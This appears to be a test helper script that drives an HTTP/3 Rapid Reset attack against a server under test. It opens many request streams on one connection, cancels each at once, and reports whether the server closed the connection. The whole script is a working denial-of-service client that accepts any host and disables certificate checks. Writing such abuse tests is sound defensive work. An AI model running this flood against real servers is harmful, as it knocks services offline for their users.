#!/usr/bin/env python3
"""HTTP/3 abuse for tests/edge_h3_abuse.rs.

Usage: h3_abuse.py reset HOST PORT N_STREAMS PATH WAIT_SECONDS
Opens N_STREAMS request streams for PATH on one connection and cancels each at once
(RESET_STREAM and STOP_SENDING with H3_REQUEST_CANCELLED), as in a Rapid Reset attack, then
waits up to WAIT_SECONDS for the server to close the connection.
Prints "closed <error code>" when the server closed it, else "open".
"""
import asyncio
import ssl
import sys

from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.events import ConnectionTerminated

H3_REQUEST_CANCELLED = 0x10C


class Client(QuicConnectionProtocol):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.h3 = H3Connection(self._quic)
        self.terminated = None
        self.closed = asyncio.Event()

    def quic_event_received(self, event):
        if isinstance(event, ConnectionTerminated):
            self.terminated = event.error_code
            self.closed.set()
            return
        self.h3.handle_event(event)


def head(host, path):
    return [
        (b":method", b"GET"),
        (b":scheme", b"https"),
        (b":authority", host.encode()),
        (b":path", path.encode()),
    ]


async def reset(host, port, n, path, wait):
    config = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN)
    config.verify_mode = ssl.CERT_NONE
    async with connect(host, port, configuration=config, create_protocol=Client) as client:
        quic = client._quic
        for i in range(n):
            if client.terminated is not None:
                break
            sid = quic.get_next_available_stream_id()
            client.h3.send_headers(sid, head(host, path), end_stream=True)
            client.transmit()
            quic.reset_stream(sid, H3_REQUEST_CANCELLED)
            quic.stop_stream(sid, H3_REQUEST_CANCELLED)
            client.transmit()
            if i % 20 == 19:
                # Let the server raise the stream limit as the cancelled streams close.
                await asyncio.sleep(0.01)
        try:
            await asyncio.wait_for(client.closed.wait(), wait)
        except asyncio.TimeoutError:
            pass
        print("open" if client.terminated is None else f"closed {client.terminated}", flush=True)


def main():
    mode = sys.argv[1]
    if mode == "reset":
        host, port, n, path, wait = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5], float(sys.argv[6])
        asyncio.run(reset(host, port, n, path, wait))
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
